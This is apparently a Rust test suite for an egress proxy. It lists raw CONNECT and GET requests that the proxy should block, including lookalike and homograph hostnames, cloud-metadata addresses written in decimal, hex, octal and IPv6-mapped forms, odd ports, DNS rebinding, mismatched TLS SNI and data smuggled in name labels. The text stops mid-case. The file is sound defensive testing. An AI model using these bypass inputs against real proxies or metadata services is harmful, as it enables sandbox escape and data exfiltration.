//! Cases that go through the egress proxy and the broker, by literal bytes.

use super::{Group, at_most, heard, only_good, only_model, unheard};

/// Names that no rule allows.
pub(super) const NAMES: Group = Group {
    name: "proxy-names",
    cases: &[
        unheard(
            "connect-unlisted",
            "a tunnel to evil.test",
            &[
                "say",
                "8788",
                "CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n",
                "@hello evil.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "connect-lookalike-front",
            "a tunnel to notallowed.test",
            &[
                "say",
                "8788",
                "CONNECT notallowed.test:443 HTTP/1.1\\r\\nHost: notallowed.test:443\\r\\n\\r\\n",
                "@hello notallowed.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "connect-lookalike-dash",
            "a tunnel to allowed-test.test",
            &[
                "say",
                "8788",
                "CONNECT allowed-test.test:443 HTTP/1.1\\r\\nHost: allowed-test.test:443\\r\\n\\r\\n",
                "@hello allowed-test.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "connect-as-subdomain",
            "a tunnel to allowed.test.evil.test",
            &[
                "say",
                "8788",
                "CONNECT allowed.test.evil.test:443 HTTP/1.1\\r\\nHost: allowed.test.evil.test:443\\r\\n\\r\\n",
                "@hello allowed.test.evil.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "connect-subdomain-of-exact",
            "a tunnel to sub.allowed.test",
            &[
                "say",
                "8788",
                "CONNECT sub.allowed.test:443 HTTP/1.1\\r\\nHost: sub.allowed.test:443\\r\\n\\r\\n",
                "@hello sub.allowed.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "connect-apex-of-suffix",
            "a tunnel to wild.test",
            &[
                "say",
                "8788",
                "CONNECT wild.test:443 HTTP/1.1\\r\\nHost: wild.test:443\\r\\n\\r\\n",
                "@hello wild.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "connect-suffix-lookalike",
            "a tunnel to notwild.test",
            &[
                "say",
                "8788",
                "CONNECT notwild.test:443 HTTP/1.1\\r\\nHost: notwild.test:443\\r\\n\\r\\n",
                "@hello notwild.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "connect-suffix-as-subdomain",
            "a tunnel to a.wild.test.evil.test",
            &[
                "say",
                "8788",
                "CONNECT a.wild.test.evil.test:443 HTTP/1.1\\r\\nHost: a.wild.test.evil.test:443\\r\\n\\r\\n",
                "@hello a.wild.test.evil.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "connect-upper",
            "a tunnel to EVIL.TEST",
            &[
                "say",
                "8788",
                "CONNECT EVIL.TEST:443 HTTP/1.1\\r\\nHost: EVIL.TEST:443\\r\\n\\r\\n",
                "@hello evil.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "connect-trailing-dot",
            "a tunnel to evil.test.",
            &[
                "say",
                "8788",
                "CONNECT evil.test.:443 HTTP/1.1\\r\\nHost: evil.test.:443\\r\\n\\r\\n",
                "@hello evil.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "connect-trailing-dots",
            "a tunnel to allowed.test..evil.test",
            &[
                "say",
                "8788",
                "CONNECT allowed.test..evil.test:443 HTTP/1.1\\r\\nHost: allowed.test..evil.test:443\\r\\n\\r\\n",
                "@hello allowed.test..evil.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "connect-punycode",
            "a tunnel to xn--llowed-cta.test",
            &[
                "say",
                "8788",
                "CONNECT xn--llowed-cta.test:443 HTTP/1.1\\r\\nHost: xn--llowed-cta.test:443\\r\\n\\r\\n",
                "@hello xn--llowed-cta.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "connect-homograph",
            "a tunnel to аllowed.test",
            &[
                "say",
                "8788",
                "CONNECT аllowed.test:443 HTTP/1.1\\r\\nHost: аllowed.test:443\\r\\n\\r\\n",
                "@hello аllowed.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "connect-full-width-dot",
            "a tunnel to evil。test",
            &[
                "say",
                "8788",
                "CONNECT evil。test:443 HTTP/1.1\\r\\nHost: evil。test:443\\r\\n\\r\\n",
                "@hello evil。test {m}",
            ],
        )
        .proxied(),
        unheard(
            "connect-under",
            "a tunnel to allowed_test",
            &[
                "say",
                "8788",
                "CONNECT allowed_test:443 HTTP/1.1\\r\\nHost: allowed_test:443\\r\\n\\r\\n",
                "@hello allowed_test {m}",
            ],
        )
        .proxied(),
        unheard(
            "connect-single",
            "a tunnel to evil",
            &[
                "say",
                "8788",
                "CONNECT evil:443 HTTP/1.1\\r\\nHost: evil:443\\r\\n\\r\\n",
                "@hello evil {m}",
            ],
        )
        .proxied(),
        unheard(
            "connect-localhost",
            "a tunnel to localhost",
            &[
                "say",
                "8788",
                "CONNECT localhost:443 HTTP/1.1\\r\\nHost: localhost:443\\r\\n\\r\\n",
                "@hello localhost {m}",
            ],
        )
        .proxied(),
        unheard(
            "connect-localhost-upper",
            "a tunnel to LOCALHOST",
            &[
                "say",
                "8788",
                "CONNECT LOCALHOST:443 HTTP/1.1\\r\\nHost: LOCALHOST:443\\r\\n\\r\\n",
                "@hello localhost {m}",
            ],
        )
        .proxied(),
        unheard(
            "connect-localhost-dot",
            "a tunnel to localhost.",
            &[
                "say",
                "8788",
                "CONNECT localhost.:443 HTTP/1.1\\r\\nHost: localhost.:443\\r\\n\\r\\n",
                "@hello localhost {m}",
            ],
        )
        .proxied(),
        unheard(
            "connect-internal-name",
            "a tunnel to metadata.google.internal",
            &[
                "say",
                "8788",
                "CONNECT metadata.google.internal:443 HTTP/1.1\\r\\nHost: metadata.google.internal:443\\r\\n\\r\\n",
                "@hello metadata.google.internal {m}",
            ],
        )
        .proxied(),
    ],
};

/// Hosts that two programs might read differently.
pub(super) const SPELLINGS: Group = Group {
    name: "proxy-spellings",
    cases: &[
        unheard(
            "host-userinfo",
            "a tunnel whose host is userinfo",
            &[
                "say",
                "8788",
                "CONNECT allowed.test@evil.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "host-userinfo-port",
            "a tunnel whose host is userinfo-port",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:443@evil.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "host-fragment",
            "a tunnel whose host is fragment",
            &[
                "say",
                "8788",
                "CONNECT evil.test#allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "host-fragment-other",
            "a tunnel whose host is fragment-other",
            &[
                "say",
                "8788",
                "CONNECT evil.test#.wild.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "host-slash",
            "a tunnel whose host is slash",
            &[
                "say",
                "8788",
                "CONNECT evil.test/allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "host-backslash",
            "a tunnel whose host is backslash",
            &[
                "say",
                "8788",
                "CONNECT evil.test\\\\.wild.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "host-question",
            "a tunnel whose host is question",
            &[
                "say",
                "8788",
                "CONNECT evil.test?.wild.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "host-nul",
            "a tunnel whose host is nul",
            &[
                "say",
                "8788",
                "CONNECT evil.test\\0.wild.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "host-nul-allowed",
            "a tunnel whose host is nul-allowed",
            &[
                "say",
                "8788",
                "CONNECT evil.test\\0allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "host-space",
            "a tunnel whose host is space",
            &[
                "say",
                "8788",
                "CONNECT evil.test allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "host-tab",
            "a tunnel whose host is tab",
            &[
                "say",
                "8788",
                "CONNECT evil.test\\t.wild.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "host-percent",
            "a tunnel whose host is percent",
            &[
                "say",
                "8788",
                "CONNECT evil.test%00.wild.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "host-percent-dot",
            "a tunnel whose host is percent-dot",
            &[
                "say",
                "8788",
                "CONNECT evil%2etest:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "host-comma",
            "a tunnel whose host is comma",
            &[
                "say",
                "8788",
                "CONNECT evil.test,allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "host-semicolon",
            "a tunnel whose host is semicolon",
            &[
                "say",
                "8788",
                "CONNECT evil.test;.wild.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "host-brackets",
            "a tunnel whose host is brackets",
            &[
                "say",
                "8788",
                "CONNECT [evil.test]:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "host-high-byte",
            "a tunnel whose host is high-byte",
            &[
                "say",
                "8788",
                "CONNECT evil.test\\xff.wild.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "host-bare-cr",
            "a tunnel whose host is bare-cr",
            &[
                "say",
                "8788",
                "CONNECT evil.test\\r.wild.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "host-scheme",
            "a tunnel whose host is scheme",
            &[
                "say",
                "8788",
                "CONNECT https://evil.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "host-two-ports",
            "a tunnel whose host is two-ports",
            &[
                "say",
                "8788",
                "CONNECT evil.test:443:allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "host-over-long",
            "a tunnel to a name longer than names may be",
            &[
                "say",
                "8788",
                "CONNECT evil.test",
                "@many 300 .a",
                ".wild.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n",
                "{m}",
            ],
        )
        .proxied(),
        unheard(
            "host-long-label",
            "a tunnel to a label longer than labels may be",
            &[
                "say",
                "8788",
                "CONNECT ",
                "@many 70 a",
                ".wild.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n",
                "{m}",
            ],
        )
        .proxied(),
    ],
};

/// Addresses in place of names, in all their spellings.
pub(super) const LITERALS: Group = Group {
    name: "proxy-literals",
    cases: &[
        unheard(
            "literal-address",
            "a tunnel to the address 20.30.40.66",
            &[
                "say",
                "8788",
                "CONNECT 20.30.40.66:80 HTTP/1.1\\r\\nHost: 20.30.40.66:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "literal-metadata",
            "a tunnel to the address 169.254.169.254",
            &[
                "say",
                "8788",
                "CONNECT 169.254.169.254:80 HTTP/1.1\\r\\nHost: 169.254.169.254:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "literal-metadata-decimal",
            "a tunnel to the address 2852039166",
            &[
                "say",
                "8788",
                "CONNECT 2852039166:80 HTTP/1.1\\r\\nHost: 2852039166:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "literal-metadata-hex",
            "a tunnel to the address 0xa9fea9fe",
            &[
                "say",
                "8788",
                "CONNECT 0xa9fea9fe:80 HTTP/1.1\\r\\nHost: 0xa9fea9fe:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "literal-metadata-octal",
            "a tunnel to the address 0251.0376.0251.0376",
            &[
                "say",
                "8788",
                "CONNECT 0251.0376.0251.0376:80 HTTP/1.1\\r\\nHost: 0251.0376.0251.0376:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "literal-metadata-short",
            "a tunnel to the address 169.254.43518",
            &[
                "say",
                "8788",
                "CONNECT 169.254.43518:80 HTTP/1.1\\r\\nHost: 169.254.43518:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "literal-metadata-mixed",
            "a tunnel to the address 0xa9.254.0251.254",
            &[
                "say",
                "8788",
                "CONNECT 0xa9.254.0251.254:80 HTTP/1.1\\r\\nHost: 0xa9.254.0251.254:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "literal-metadata-dot",
            "a tunnel to the address 169.254.169.254.",
            &[
                "say",
                "8788",
                "CONNECT 169.254.169.254.:80 HTTP/1.1\\r\\nHost: 169.254.169.254.:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "literal-metadata-full-width",
            "a tunnel to the address １６９.254.169.254",
            &[
                "say",
                "8788",
                "CONNECT １６９.254.169.254:80 HTTP/1.1\\r\\nHost: １６９.254.169.254:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "literal-loopback",
            "a tunnel to the address 127.0.0.1",
            &[
                "say",
                "8788",
                "CONNECT 127.0.0.1:80 HTTP/1.1\\r\\nHost: 127.0.0.1:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "literal-loopback-short",
            "a tunnel to the address 127.1",
            &[
                "say",
                "8788",
                "CONNECT 127.1:80 HTTP/1.1\\r\\nHost: 127.1:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "literal-loopback-decimal",
            "a tunnel to the address 2130706433",
            &[
                "say",
                "8788",
                "CONNECT 2130706433:80 HTTP/1.1\\r\\nHost: 2130706433:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "literal-zero",
            "a tunnel to the address 0",
            &[
                "say",
                "8788",
                "CONNECT 0:80 HTTP/1.1\\r\\nHost: 0:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "literal-unspecified",
            "a tunnel to the address 0.0.0.0",
            &[
                "say",
                "8788",
                "CONNECT 0.0.0.0:80 HTTP/1.1\\r\\nHost: 0.0.0.0:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "literal-private",
            "a tunnel to the address 10.0.0.5",
            &[
                "say",
                "8788",
                "CONNECT 10.0.0.5:80 HTTP/1.1\\r\\nHost: 10.0.0.5:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "literal-carrier",
            "a tunnel to the address 100.64.0.1",
            &[
                "say",
                "8788",
                "CONNECT 100.64.0.1:80 HTTP/1.1\\r\\nHost: 100.64.0.1:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "literal-alibaba",
            "a tunnel to the address 100.100.100.200",
            &[
                "say",
                "8788",
                "CONNECT 100.100.100.200:80 HTTP/1.1\\r\\nHost: 100.100.100.200:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "literal-six",
            "a tunnel to the address [2600::66]",
            &[
                "say",
                "8788",
                "CONNECT [2600::66]:80 HTTP/1.1\\r\\nHost: [2600::66]:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "literal-six-loopback",
            "a tunnel to the address [::1]",
            &[
                "say",
                "8788",
                "CONNECT [::1]:80 HTTP/1.1\\r\\nHost: [::1]:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "literal-six-mapped",
            "a tunnel to the address [::ffff:169.254.169.254]",
            &[
                "say",
                "8788",
                "CONNECT [::ffff:169.254.169.254]:80 HTTP/1.1\\r\\nHost: [::ffff:169.254.169.254]:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "literal-six-mapped-hex",
            "a tunnel to the address [::ffff:a9fe:a9fe]",
            &[
                "say",
                "8788",
                "CONNECT [::ffff:a9fe:a9fe]:80 HTTP/1.1\\r\\nHost: [::ffff:a9fe:a9fe]:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "literal-six-metadata",
            "a tunnel to the address [fd00:ec2::254]",
            &[
                "say",
                "8788",
                "CONNECT [fd00:ec2::254]:80 HTTP/1.1\\r\\nHost: [fd00:ec2::254]:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "literal-six-unspecified",
            "a tunnel to the address [::]",
            &[
                "say",
                "8788",
                "CONNECT [::]:80 HTTP/1.1\\r\\nHost: [::]:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "literal-six-zone",
            "a tunnel to the address [fe80::1%lo]",
            &[
                "say",
                "8788",
                "CONNECT [fe80::1%lo]:80 HTTP/1.1\\r\\nHost: [fe80::1%lo]:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied()
        .impossible("a stream to a group, or to a zone of the client, has nobody to answer it"),
        unheard(
            "literal-nat64",
            "a tunnel to the address [64:ff9b::a9fe:a9fe]",
            &[
                "say",
                "8788",
                "CONNECT [64:ff9b::a9fe:a9fe]:80 HTTP/1.1\\r\\nHost: [64:ff9b::a9fe:a9fe]:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "literal-sixtofour",
            "a tunnel to the address [2002:a9fe:a9fe::]",
            &[
                "say",
                "8788",
                "CONNECT [2002:a9fe:a9fe::]:80 HTTP/1.1\\r\\nHost: [2002:a9fe:a9fe::]:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "literal-multicast",
            "a tunnel to the address 224.0.0.1",
            &[
                "say",
                "8788",
                "CONNECT 224.0.0.1:80 HTTP/1.1\\r\\nHost: 224.0.0.1:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied()
        .impossible("a stream to a group, or to a zone of the client, has nobody to answer it"),
    ],
};

/// Other ports of allowed hosts.
pub(super) const PORTS: Group = Group {
    name: "proxy-ports",
    cases: &[
        unheard(
            "port-ssh",
            "a tunnel to port 22 of an allowed host",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:22 HTTP/1.1\\r\\nHost: allowed.test:22\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "port-smtp",
            "a tunnel to port 25 of an allowed host",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:25 HTTP/1.1\\r\\nHost: allowed.test:25\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "port-plain",
            "a tunnel to port 80 of an allowed host",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:80 HTTP/1.1\\r\\nHost: allowed.test:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "port-proxy",
            "a tunnel to port 3128 of an allowed host",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:3128 HTTP/1.1\\r\\nHost: allowed.test:3128\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "port-docker",
            "a tunnel to port 2375 of an allowed host",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:2375 HTTP/1.1\\r\\nHost: allowed.test:2375\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "port-high",
            "a tunnel to port 8443 of an allowed host",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:8443 HTTP/1.1\\r\\nHost: allowed.test:8443\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "port-imap",
            "a tunnel to port 143 of an allowed host",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:143 HTTP/1.1\\r\\nHost: allowed.test:143\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "port-database",
            "a tunnel to port 5432 of an allowed host",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:5432 HTTP/1.1\\r\\nHost: allowed.test:5432\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "port-zero-padded",
            "an allowed host with the port '00022'",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:00022 HTTP/1.1\\r\\nHost: allowed.test:22\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "port-hex",
            "an allowed host with the port '0x16'",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:0x16 HTTP/1.1\\r\\nHost: allowed.test:22\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "port-large",
            "an allowed host with the port '65558'",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:65558 HTTP/1.1\\r\\nHost: allowed.test:22\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "port-negative",
            "an allowed host with the port '-22'",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:-22 HTTP/1.1\\r\\nHost: allowed.test:22\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "port-plus",
            "an allowed host with the port '+22'",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:+22 HTTP/1.1\\r\\nHost: allowed.test:22\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "port-none",
            "an allowed host with the port ''",
            &[
                "say",
                "8788",
                "CONNECT allowed.test: HTTP/1.1\\r\\nHost: allowed.test:22\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "port-suffix",
            "port 22 of a name below a suffix",
            &[
                "say",
                "8788",
                "CONNECT a.wild.test:22 HTTP/1.1\\r\\nHost: a.wild.test:22\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "port-in-url",
            "a plain request to another port",
            &[
                "say",
                "8788",
                "GET http://allowed.test:22/{m} HTTP/1.1\\r\\nHost: allowed.test:22\\r\\n\\r\\n",
            ],
        )
        .proxied(),
    ],
};

/// What names lead to, and what looking them up tells.
pub(super) const ANSWERS: Group = Group {
    name: "proxy-answers",
    cases: &[
        unheard(
            "bad-private",
            "an allowed name that leads to 10.0.0.5",
            &[
                "say",
                "8788",
                "CONNECT bad-private.test:443 HTTP/1.1\\r\\nHost: bad-private.test:443\\r\\n\\r\\n",
                "@hello bad-private.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "bad-metadata",
            "an allowed name that leads to 169.254.169.254",
            &[
                "say",
                "8788",
                "CONNECT bad-metadata.test:443 HTTP/1.1\\r\\nHost: bad-metadata.test:443\\r\\n\\r\\n",
                "@hello bad-metadata.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "bad-loopback",
            "an allowed name that leads to 127.0.0.1",
            &[
                "say",
                "8788",
                "CONNECT bad-loopback.test:443 HTTP/1.1\\r\\nHost: bad-loopback.test:443\\r\\n\\r\\n",
                "@hello bad-loopback.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "bad-carrier",
            "an allowed name that leads to 100.64.0.1",
            &[
                "say",
                "8788",
                "CONNECT bad-carrier.test:443 HTTP/1.1\\r\\nHost: bad-carrier.test:443\\r\\n\\r\\n",
                "@hello bad-carrier.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "bad-unspecified",
            "an allowed name that leads to 0.0.0.0",
            &[
                "say",
                "8788",
                "CONNECT bad-unspecified.test:443 HTTP/1.1\\r\\nHost: bad-unspecified.test:443\\r\\n\\r\\n",
                "@hello bad-unspecified.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "bad-mixed",
            "an allowed name that leads to a good and a bad address",
            &[
                "say",
                "8788",
                "CONNECT bad-mixed.test:443 HTTP/1.1\\r\\nHost: bad-mixed.test:443\\r\\n\\r\\n",
                "@hello bad-mixed.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "bad-mixed-six",
            "an allowed name that leads to a good address and a bad IPv6 one",
            &[
                "say",
                "8788",
                "CONNECT bad-mixed-six.test:443 HTTP/1.1\\r\\nHost: bad-mixed-six.test:443\\r\\n\\r\\n",
                "@hello bad-mixed-six.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "bad-six",
            "an allowed name that leads to fd00:ec2::254",
            &[
                "say",
                "8788",
                "CONNECT bad-six.test:443 HTTP/1.1\\r\\nHost: bad-six.test:443\\r\\n\\r\\n",
                "@hello bad-six.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "bad-mapped",
            "an allowed name that leads to ::ffff:10.0.0.5",
            &[
                "say",
                "8788",
                "CONNECT bad-mapped.test:443 HTTP/1.1\\r\\nHost: bad-mapped.test:443\\r\\n\\r\\n",
                "@hello bad-mapped.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "bad-nat64",
            "an allowed name that leads to 64:ff9b::a9fe:a9fe",
            &[
                "say",
                "8788",
                "CONNECT bad-nat64.test:443 HTTP/1.1\\r\\nHost: bad-nat64.test:443\\r\\n\\r\\n",
                "@hello bad-nat64.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "bad-sixtofour",
            "an allowed name that leads to 2002:a9fe:a9fe::",
            &[
                "say",
                "8788",
                "CONNECT bad-sixtofour.test:443 HTTP/1.1\\r\\nHost: bad-sixtofour.test:443\\r\\n\\r\\n",
                "@hello bad-sixtofour.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "bad-link",
            "an allowed name that leads to fe80::1",
            &[
                "say",
                "8788",
                "CONNECT bad-link.test:443 HTTP/1.1\\r\\nHost: bad-link.test:443\\r\\n\\r\\n",
                "@hello bad-link.test {m}",
            ],
        )
        .impossible("a link-local address without a zone leads nowhere")
        .proxied(),
        unheard(
            "bad-azure",
            "an allowed name that leads to 168.63.129.16",
            &[
                "say",
                "8788",
                "CONNECT bad-azure.test:443 HTTP/1.1\\r\\nHost: bad-azure.test:443\\r\\n\\r\\n",
                "@hello bad-azure.test {m}",
            ],
        )
        .proxied(),
        only_good(
            "rebinding",
            "an allowed name that leads elsewhere the second time",
            &[
                "again",
                "8788",
                "GET http://rebind.test/first HTTP/1.1\\r\\nHost: rebind.test\\r\\n\\r\\n",
                "GET http://rebind.test/{m} HTTP/1.1\\r\\nHost: rebind.test\\r\\n\\r\\n",
            ],
        )
        .proxied(),
        only_good(
            "rebinding-tunnel",
            "the same by tunnels",
            &[
                "again",
                "8788",
                "GET http://rebind-too.test/ HTTP/1.1\\r\\nHost: rebind-too.test\\r\\n\\r\\n",
                "CONNECT rebind-too.test:443 HTTP/1.1\\r\\nHost: rebind-too.test:443\\r\\n\\r\\n",
                "@hello rebind-too.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "bad-plain",
            "a plain request to an allowed name with a private address",
            &[
                "say",
                "8788",
                "GET http://bad-private.test/{m} HTTP/1.1\\r\\nHost: bad-private.test\\r\\n\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "unlisted-not-asked",
            "a name that no rule allows is not looked up",
            &[
                "say",
                "8788",
                "CONNECT {m}.evil.test:443 HTTP/1.1\\r\\nHost: {m}.evil.test:443\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "unlisted-not-asked-plain",
            "nor for a plain request",
            &[
                "say",
                "8788",
                "GET http://{m}.evil.test/ HTTP/1.1\\r\\nHost: {m}.evil.test\\r\\n\\r\\n",
            ],
        )
        .proxied(),
        at_most(
            60,
            "labels",
            "data in the labels of names below an allowed suffix",
            &["names", "75", "wild.test", "{m}"],
        )
        .proxied()
        .alone(),
    ],
};

/// Tunnels that carry something else than was asked for.
pub(super) const TLS: Group = Group {
    name: "proxy-tls",
    cases: &[
        unheard(
            "sni-other",
            "a ClientHello for another host",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "@hello evil.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "sni-missing",
            "a ClientHello for nobody",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "@hello {m}",
            ],
        )
        .proxied(),
        unheard(
            "sni-outer",
